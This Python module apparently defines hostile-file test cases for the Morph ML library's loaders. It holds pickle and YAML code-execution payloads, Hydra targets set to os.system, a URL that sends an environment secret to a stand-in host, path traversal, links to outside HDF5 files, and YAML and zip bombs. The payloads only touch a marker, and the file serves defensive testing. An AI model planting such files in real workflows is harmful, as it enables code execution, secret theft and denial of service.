"""The files that are tried: how each is written, and how a user would open it."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import h5py
import numpy as np
import torch
from hydra.errors import InstantiationException

from experiments.in_process import command
from experiments.survival import hostile_files as files
from experiments.survival.hostile_files import Harm, Reduced
from morph import load_checkpoint

__all__ = ["CASES", "SECRET", "Case"]

HUGE = 10**9
_SCALAR: Any = np.float64(0).__reduce__()[0]
SECRET = "MORPH_STUDY_SECRET"
_BILLION: Any = [0]
for _ in range(40):
    _BILLION = [_BILLION, _BILLION]


class Case(NamedTuple):
    """A file from a stranger.

    would: what it is made for.
    make: writes it into the working folder; told a path that exists once something was executed.
    open: opens it from there as a user would.
    """

    name: str
    would: str
    make: Callable[[Path], object]
    open: Callable[[], object]


def load(path: str) -> Callable[[], object]:
    """A checkpoint, an export or an adapter."""
    return lambda: load_checkpoint(path)


def read(name: str = "their.yaml") -> None:
    """A data set by its YAML: made where it is missing, opened, and a window of it read."""
    from morph.data.catalogue import find_datasets, open_split, prepare

    (config,) = find_datasets(name, {"data_dir": "data", "level": "tiny", "suite_seed": 0}).values()
    try:
        prepare(config)
        adapter = open_split(config, "train", "their")
    except InstantiationException as error:  # around what a constructor raised, as the commands say it
        raise error.__cause__ or error from error
    adapter.read(0, 0, adapter.spec.num_steps)


def check() -> None:
    """The command that reads a data set whole and stores its statistics."""
    from data_adapters.check import main

    command(main, ["data=their.yaml"])


def inspect(path: str) -> Callable[[], object]:
    """The file itself, in place of a YAML."""

    def run() -> None:
        from data_adapters.inspect import dataset_of
        from morph.data.catalogue import open_split

        open_split(dataset_of(path, whole=True), "all", "their").read(0, 0, 2)

    return run


def _pickled(path: str) -> Callable[[Path], object]:
    def make(marker: Path) -> None:
        Path(path).write_bytes(b"")
        torch.save({"model_state_dict": {"w": torch.zeros(2)}, "more": Harm(marker)}, path)

    return make


def _legacy(marker: Path) -> None:
    torch.save(Harm(marker), "old.ckpt", _use_new_zipfile_serialization=False)


def _npy(marker: Path) -> None:
    np.save("u.npy", np.array([Harm(marker)], dtype=object), allow_pickle=True)


def _package(marker: Path) -> None:
    """That is found on the path of imports, as every folder of `python -m` is."""
    Path("stranger.py").write_text(f"import os\nos.system(\"touch '{marker}'\")\n")


def _mixer(target: str, **options: Any) -> Callable[[Path], object]:
    def make(marker: Path) -> None:
        _package(marker)
        files.checkpoint(Path("run.ckpt"), mixer={"_target_": target, **options})

    return make


def _config(**config: Any) -> Callable[[Path], object]:
    return lambda _: files.checkpoint(Path("run.ckpt"), **config)


def _yaml(**options: Any) -> Callable[[Path], object]:
    """Of good data; `marker` in a text is the path of the file that tells."""

    def make(marker: Path) -> None:
        _package(marker)
        files.array_file(Path("u.h5"))
        files.write_yaml(Path(), json.loads(json.dumps(files.reader(**options)).replace("MARKER", str(marker))))

    return make


def _text(text: str) -> Callable[[Path], object]:
    return lambda marker: files.write_yaml(Path(), text.replace("MARKER", str(marker)))


def _array(**options: Any) -> Callable[[Path], object]:
    def make(_: Path) -> None:
        files.array_file(Path("u.h5"), **options)
        files.write_yaml(Path(), files.reader())

    return make


def _linked(kind: str) -> Callable[[Path], object]:
    def make(_: Path) -> None:
        secret = Path("..", "home", "secret.h5").resolve()
        files.array_file(secret)
        with h5py.File("u.h5", "w") as file:
            if kind == "link":
                file["u"] = h5py.ExternalLink(str(secret), "/u")
            elif kind == "virtual":
                layout = h5py.VirtualLayout((10, 8, 16), "f4")
                layout[:] = h5py.VirtualSource(str(secret), "u", (10, 8, 16))
                file.create_virtual_dataset("u", layout)
            else:
                file.create_dataset("u", (10, 8, 2), "u1", external=[(str(secret), 0, h5py.h5f.UNLIMITED)])
        files.write_yaml(Path(), files.reader())

    return make


def _well(**changes: Any) -> Callable[[Path], object]:
    def make(_: Path) -> None:
        files.well(Path("their"), **changes)
        files.write_yaml(Path(), {"_target_": "data_adapters.hdf5.WellAdapter", "path": "their", "fields": ["u"]})

    return make


def _stats(text: str) -> Callable[[Path], object]:
    def make(marker: Path) -> None:
        _yaml()(marker)
        Path("u.stats.yaml").write_text(text.replace("MARKER", str(marker)))
        Path("their.stats.yaml").write_text(text.replace("MARKER", str(marker)))

    return make


def _labelled(name: str, size: int) -> Callable[[Path], object]:
    """A NetCDF whose times, which are read whole, are said to be so many."""

    def make(_: Path) -> None:
        import h5netcdf

        with h5netcdf.File(name, "w") as file:
            file.dimensions = {"time": size, "x": 8}
            file.create_variable("time", ("time",), "f8", chunks=(1024,))
            file.create_variable("u", ("time", "x"), "f4", chunks=(1024, 8))
        options = {"_target_": "data_adapters.labelled.XarrayAdapter", "files": name, "dt": 1.0}
        files.write_yaml(Path(), options)

    return make


def _zarr(kind: str) -> Callable[[Path], object]:
    def make(marker: Path) -> None:
        files.zarr_store(Path("u.zarr"), None if kind == "chunk" else marker)
        if kind == "chunk":
            place = Path("u.zarr", "u", ".zarray")
            said = json.loads(place.read_text())
            place.write_text(json.dumps({**said, "shape": [10, 10**12], "chunks": [10, 10**12]}))
        options = {"_target_": "data_adapters.labelled.XarrayAdapter", "files": "u.zarr", "dt": 1.0, "fields": ["u"]}
        files.write_yaml(Path(), options)

    return make


def _index(_: Path) -> None:
    files.export(Path("export"))
    Path("export", "model.safetensors").rename("stolen.safetensors")
    index = {"metadata": {}, "weight_map": {"decoder.linear.weight": "../stolen.safetensors"}}
    Path("export", "model.safetensors.index.json").write_text(json.dumps(index))


def _json(text: str) -> Callable[[Path], object]:
    def make(_: Path) -> None:
        files.export(Path("export"))
        Path("export", "config.json").write_text(text)

    return make


def _header(_: Path) -> None:
    files.export(Path("export"))
    Path("export", "model.safetensors").write_bytes((2**62).to_bytes(8, "little") + b"{}")


def _parameters(text: str) -> Callable[[Path], object]:
    def make(_: Path) -> None:
        with h5py.File("u.h5", "w") as file:
            for number in range(10):
                group = file.create_group(f"{number:02}")
                group["u"] = np.ones((8, 16), np.float32)
                group.attrs["config"] = text
        target = "data_adapters.hdf5.GroupAdapter"
        files.write_yaml(Path(), files.reader(_target_=target, dims=["time", "x"], parameters=["nu"]))

    return make


def _published(_: Path) -> None:
    from morph.model.reference import published_options

    state = {"transformer_blocks.999999999.mlp.0.base.weight": torch.zeros(8, 8)}
    assert published_options(files.harmless().config)
    shapes = {
        "pos_encoding.pos_embedding": (1, 1, 16, 256), "transformer_blocks.0.mlp.0.base.weight": (1024, 256),
        "patch_embedding.conv_features.input_proj.weight": (8, 3, 1, 1, 1),
        "patch_embedding.conv_features.conv_stack.0.weight": (8, 8, 3, 3, 3),
        "patch_embedding.projection.weight": (256, 8 * 512), "decoder.linear.weight": (3 * 3 * 512, 256),
    }  # fmt: skip
    torch.save(state | {name: torch.zeros(shape) for name, shape in shapes.items()}, "model.pth")


_BOMB = "a: &a [0, 0]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(24)
)
_GROWS = "\n".join(
    ["_target_: data_adapters.hdf5.ArrayAdapter", "a0: ha", *(f"a{i + 1}: ${{a{i}}}${{a{i}}}" for i in range(40))]
)
_ELSEWHERE = {
    "_target_": "data_adapters.suite.ensure", "system_name": "dr1d", "level": "tiny", "out": "../home/suite",
}  # fmt: skip
_APPLY = "!!python/object/apply:os.system [\"touch 'MARKER'\"]"
_EXECUTE, _IMPORT, _WRITE, _LEAK = "execute a command", "import a module of its own", "write elsewhere", "read a secret"
_MEMORY, _FOREVER = "take all memory", "take all memory and not end"
_ABOUT = [
    ("options.data_dir with a variable of the environment", _LEAK,
     {"options": {"data_dir": f"https://x/${{oc.env:{SECRET}}}"}}),
    ("lists that double 40 times in its options", _FOREVER, {"options": {"level": _BILLION}}),
    ("lists that double 40 times in its plan", _FOREVER, {"plan": {"data": _BILLION}}),
]  # fmt: skip

CASES: list[Case] = [
    Case("model.pth: pickle", _EXECUTE, _pickled("model.pth"), load("model.pth")),
    Case("run.ckpt: pickle", _EXECUTE, _pickled("run.ckpt"), load("run.ckpt")),
    Case("old.ckpt: pickle as before torch 1.6", _EXECUTE, _legacy, load("old.ckpt")),
    *(
        Case(f"run.ckpt: mixer {target}", would, _mixer(target), load("run.ckpt"))
        for target, would in {
            "os.system": _EXECUTE, "morph.command.os.system": _EXECUTE, "torch.serialization.load": _EXECUTE,
            "torch.hub.load": _EXECUTE, "torch.utils.cpp_extension.load_inline": _EXECUTE,
            "torch._C.import_ir_module": _EXECUTE, "stranger.Mixer": _IMPORT,
        }.items()
    ),
    Case("run.ckpt: mixer that names os.system in its options", _EXECUTE,
         _mixer("torch.nn.Identity", inner=[{"_target_": "os.system"}]), load("run.ckpt")),
    Case("run.ckpt: mixer that is a model of 10^9 blocks", _FOREVER,
         _mixer("morph.model.morph.Morph", depth=HUGE), load("run.ckpt")),
    Case("run.ckpt: depth 10^9", _FOREVER, _config(depth=HUGE), load("run.ckpt")),
    Case("run.ckpt: depth 60000", _FOREVER, _config(depth=60_000), load("run.ckpt")),
    Case("run.ckpt: dim 10^9", _MEMORY, _config(dim=HUGE), load("run.ckpt")),
    Case("run.ckpt: FNO of 10^9 layers", _MEMORY,
         _config(kind="FNO", width=10**12, depth=HUGE), load("run.ckpt")),
    Case("run.ckpt: weight of 10^11 numbers over 4 bytes", _MEMORY, lambda _: files.checkpoint(
        Path("run.ckpt"), weights={"positions.table": torch.zeros(1).expand(10**11)}), load("run.ckpt")),
    Case("run.ckpt: zip with a gigabyte of zeros in 5 MB", _MEMORY,
         lambda _: files.packed_zip(Path("run.ckpt")), load("run.ckpt")),
    Case("run.ckpt: zip entry that claims 3 GB", _MEMORY,
         lambda _: files.claiming_zip(Path("run.ckpt")), load("run.ckpt")),
    Case("run.ckpt: bytearray(10^10)", _MEMORY, lambda _: files.checkpoint(
        Path("run.ckpt"), about={"plan": Reduced(bytearray, 10**10)}), load("run.ckpt")),
    *(
        Case(f"run.ckpt: plan that is {name}", _MEMORY, lambda _, made=made: files.checkpoint(
            Path("run.ckpt"), about={"plan": made()}), load("run.ckpt"))
        for name, made in {
            "torch.Tensor(3 10^9)": lambda: Reduced(torch.Tensor, 3 * HUGE),
            "torch.FloatTensor(3 10^9)": lambda: Reduced(torch.FloatTensor, 3 * HUGE),
            "torch.UntypedStorage(3 10^9)": lambda: Reduced(torch.UntypedStorage, 3 * HUGE),
            "a NumPy scalar of 10^9 bytes": lambda: Reduced(_SCALAR, Reduced(np.dtype, f"V{HUGE}")),
            "a NumPy scalar of 10^9 zeros": lambda: Reduced(_SCALAR, Reduced(np.dtype, f"S{HUGE}")),
            "text that is doubled 28 times": files.doubled,
            "a set that is copied 10^4 times": files.copied,
            "tensors of 10^5 axes": files.many_axes,
        }.items()
    ),
    Case("run.ckpt: data.PKL that is torch.Tensor(3 10^9)", _MEMORY,
         lambda _: files.in_capitals(Path("run.ckpt"), Reduced(torch.Tensor, 3 * HUGE)), load("run.ckpt")),
    *(Case(f"run.ckpt: {name}", would, lambda _, about=about: files.checkpoint(Path("run.ckpt"), about=about),
           load("run.ckpt")) for name, would, about in _ABOUT),
    Case("model.pth: block number 999999999", _FOREVER, _published, load("model.pth")),
    Case("config.json: mixer os.system", _EXECUTE,
         lambda _: files.export(Path("export"), mixer={"_target_": "os.system"}), load("export")),
    Case("config.json: depth 10^9", _FOREVER, lambda _: files.export(Path("export"), depth=HUGE), load("export")),
    Case("config.json of 11 MB", _MEMORY, _json('{"a": "' + 11 * 2**20 * "a" + '"}'), load("export")),
    Case("config.json nested 10^6 times", _MEMORY, _json('{"a":' + "[" * 10**6), load("export")),
    Case("index that names ../stolen.safetensors", _LEAK, _index, load("export")),
    Case("safetensors with a header of 2^62 bytes", _MEMORY, _header, load("export")),
    Case("adapter_config.json: a pattern in place of layers", _FOREVER,
         lambda _: files.adapter(Path("adapter"), target_modules=["(a+)+$"]), load("adapter")),
    Case("adapter_config.json: rank 10^9", _MEMORY,
         lambda _: files.adapter(Path("adapter"), r=HUGE, rank_pattern={}), load("adapter")),
    *(
        Case(f"YAML: _target_ {target}", would, _yaml(_target_=target, command="touch 'MARKER'"), read)
        for target, would in {
            "os.system": _EXECUTE, "data_adapters.hdf5.os.system": _EXECUTE, "stranger.Reader": _IMPORT,
            "data_adapters.suite.subprocess.run": _EXECUTE, "morph.data.catalogue.instantiate": _EXECUTE,
        }.items()
    ),
    Case("YAML: prepare os.system", _EXECUTE,
         _yaml(prepare={"_target_": "os.system", "command": "touch 'MARKER'"}), read),
    Case("YAML: os.system among the fields", _EXECUTE,
         _yaml(fields=["u", {"_target_": "os.system", "command": "touch 'MARKER'"}]), read),
    Case("YAML: !!python/object/apply:os.system", _EXECUTE, _text(f"a: {_APPLY}"), read),
    Case("YAML: aliases that grow to 10^12", _FOREVER, _text(_BOMB), read),
    Case("YAML: interpolations that grow to 2^40", _FOREVER, _text(_GROWS), read),
    Case("YAML: 10^5 brackets", "crash the parser", _text("[" * 100_000), read),
    Case("YAML: 300 kB", _MEMORY, _text("a: " + "a" * 300_000), read),
    Case("YAML: URL with a variable of the environment", _LEAK,
         _yaml(files=f"https://x/${{oc.env:{SECRET}}}.h5"), read),
    Case("YAML: URL reference::, whose templates are run", _EXECUTE, _yaml(files="reference::http://x/u.json"), read),
    Case("YAML: statistics elsewhere", _WRITE, _yaml(statistics="../home/.config/start.yaml"), check),
    Case("YAML: statistics that are no YAML", _WRITE, _yaml(statistics="start.desktop"), check),
    Case("YAML: a name that leads elsewhere", _WRITE, _yaml(name="../home/start"), check),
    Case("YAML: cache elsewhere", _WRITE, _yaml(files="memory://u.h5", cache="../home/.config"), read),
    Case("YAML: data generated elsewhere", _WRITE, _yaml(prepare=_ELSEWHERE), read),
    Case("YAML: prepare with _convert_, data elsewhere", _WRITE,
         _yaml(prepare=_ELSEWHERE | {"_convert_": "all"}), read),
    Case("YAML: prepare with _args_, data elsewhere", _WRITE, _yaml(
        prepare={"_target_": _ELSEWHERE["_target_"], "_args_": ["dr1d", "tiny", 0, "../home/suite"]}), read),
    Case("YAML: a reader with _args_", _WRITE, _yaml(_args_=["u.h5"]), read),
    Case("stats.yaml: !!python/object/apply:os.system", _EXECUTE, _stats(f"mean: {_APPLY}"), read),
    Case("stats.yaml: aliases that grow to 10^12", _FOREVER, _stats(_BOMB), read),
    Case("u.npy: pickle", _EXECUTE, _npy, inspect("u.npy")),
    Case("u.zarr: pickle", _EXECUTE, _zarr("pickle"), inspect("u.zarr")),
    Case("u.zarr: pickle, by its YAML", _EXECUTE, _zarr("pickle"), read),
    Case("u.zarr: a chunk of 10^13 numbers", _MEMORY, _zarr("chunk"), read),
    Case("u.h5: link to a file elsewhere", _LEAK, _linked("link"), read),
    Case("u.h5: virtual array of a file elsewhere", _LEAK, _linked("virtual"), read),
    Case("u.h5: bytes of a file elsewhere", _LEAK, _linked("bytes"), read),
    Case("u.h5: bytes of a file elsewhere, itself", _LEAK, _linked("bytes"), inspect("u.h5")),
    Case("u.h5: a window of 40 GB", _MEMORY, _array(shape=(10, 1000, 10**7, ), dtype="f4", chunks=(1, 1, 1024)), read),
    Case("u.h5: 10^12 points", _MEMORY, _array(shape=(10, 8, 10**12), dtype="f4", chunks=(1, 1, 1024)), read),
    Case("u.h5: 10^12 trajectories", _MEMORY, _array(shape=(10**12, 8, 16), dtype="f4", chunks=(1, 8, 16)), read),
    Case("u.h5: aliases in the text of its parameters", _FOREVER, _parameters(_BOMB), read),
    Case("Well: n_trajectories 10^12", _MEMORY, _well(n_trajectories=10**12), read),
    Case("Well: 10^11 times", _MEMORY, _well(times=10**11), read),
    Case("Well: 10^11 points", _MEMORY, _well(points=10**11), read),
    Case("u.nc: 10^11 times", _MEMORY, _labelled("u.nc", 10**11), read),
    Case("u.nc: 10^11 times, itself", _MEMORY, _labelled("u.nc", 10**11), inspect("u.nc")),
]  # fmt: skip
